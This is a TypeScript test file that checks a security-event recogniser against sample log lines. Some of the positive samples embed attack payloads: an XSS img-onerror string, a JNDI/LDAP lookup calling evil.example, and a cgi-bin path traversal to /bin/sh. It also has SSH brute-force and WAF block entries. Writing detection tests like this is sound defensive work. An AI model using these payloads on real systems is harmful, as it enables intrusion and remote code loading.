import { securityEvent } from './security-event.ts';
import { testRecognition } from './recognition-table.ts';

testRecognition(securityEvent, {
  yes: [
    '[W 240502 10:00:00 web:2344] 404 GET /login?next=%3Cimg%20src=x%20onerror=alert(1)%3E (203.0.113.9) 0.7ms',
    '404 GET /oauth?error=$%7Bjndi%3Aldap%3A%2F%2Fevil.example%7D (203.0.113.9)',
    '"GET /cgi-bin/%2e%2e/%2e%2e/bin/sh HTTP/1.1" 404',
    'WARN attack prevented by Rack::Protection::HttpOrigin',
    'Invalid user admin from 203.0.113.9 port 40022',
    'fail2ban.actions: NOTICE [sshd] Ban 198.51.100.23',
    'Message: Access denied with code 403 (phase 2)\nOperator GE matched 5 at TX:blocking_inbound_anomaly_score',
    'Controller::login::106 Login with username test from 10.0.0.7 failed (-1)!',
    'sshd[1]: refused connect from 10.0.0.7 (10.0.0.7)',
    'sshd[24200]: reverse mapping checking getaddrinfo for ns.example.com [1.2.3.4] failed - POSSIBLE BREAK-IN ATTEMPT!',
    'sshd[24200]: Failed password for invalid user webmaster from 1.2.3.4 port 38926 ssh2',
    'sshd(pam_unix)[19939]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4',
    '[client 1.2.3.4] ModSecurity: Access denied with code 403 (phase 2).',
  ],
  no: [
    ['404 GET /static/img/onload.png (203.0.113.9) 0.7ms', 'none'],
    ['GET /docs/union-select.html 200', 'none'],
    ['open /etc/passwd: no such file or directory', 'missing_file'],
    ['INFO ddos protection enabled', 'none'],
    ['INFO honeypot module loaded', 'none'],
    ['crond(pam_unix)[2915]: session closed for user root', 'none'],
    ['Accepted publickey for deploy from 10.0.0.5 port 51234 ssh2', 'none'],
    ['401 Unauthorized: invalid api key', 'auth_invalid_key'],
  ],
});
